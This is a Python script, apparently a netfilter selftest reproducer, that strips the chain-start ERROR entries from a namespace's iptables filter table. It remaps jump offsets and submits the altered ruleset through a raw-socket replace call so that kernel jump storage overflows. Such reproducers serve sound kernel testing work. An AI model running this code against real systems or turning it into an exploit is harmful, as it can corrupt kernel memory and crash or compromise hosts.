#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""overflow.py: makes jumps overflow in the filter table of this network namespace.

The kernel has room for as many jumps as a ruleset has chains, by the entries that begin
them. iptables always writes these; but nothing asks for them. Takes them out of the
ruleset that is there. Prints the offset of each jump."""

import ctypes
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)),
                                "../selftests/iptverdict"))
import ruleset  # pylint: disable=wrong-import-position

SET_REPLACE = 64
ipv4 = ruleset.BLOBS["ipv4"]
valid, starts, ends, data = ruleset.read("filter", ipv4)

old, offset = [], 0
while offset < len(data):
    target, size = struct.unpack_from("HH", data, offset + ipv4.target_offset)
    name = data[offset + target + 2:][:29].split(b"\0")[0]
    old.append((offset, bytearray(data[offset:offset + size]), target, name))
    offset += size

# The last entry, which is one of these, too, ends the table.
new_offset, size, kept = {}, 0, []
for i, (offset, entry, target, name) in enumerate(old):
    new_offset[offset] = size
    if name != b"ERROR" or i == len(old) - 1:
        kept.append((entry, target, name))
        size += len(entry)
for entry, target, name in kept:
    if name == b"":
        verdict = struct.unpack_from("i", entry, target + 32)[0]
        if verdict >= 0:
            struct.pack_into("i", entry, target + 32, new_offset[verdict])

counters = ctypes.create_string_buffer(16 * len(old))
replace = struct.pack("32sIII5I5IIP", b"filter", valid, len(kept), size,
                      *(new_offset[start] if valid & 1 << i else 0 for i, start in enumerate(starts)),
                      *(new_offset[end] if valid & 1 << i else 0 for i, end in enumerate(ends)),
                      len(old), ctypes.addressof(counters))
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.setsockopt(socket.IPPROTO_IP, SET_REPLACE,
                   replace + b"".join(bytes(entry) for entry, _, _ in kept))

offset = 0
for entry, target, name in kept:
    if name == b"" and struct.unpack_from("i", entry, target + 32)[0] >= 0:
        print(offset)
    offset += len(entry)
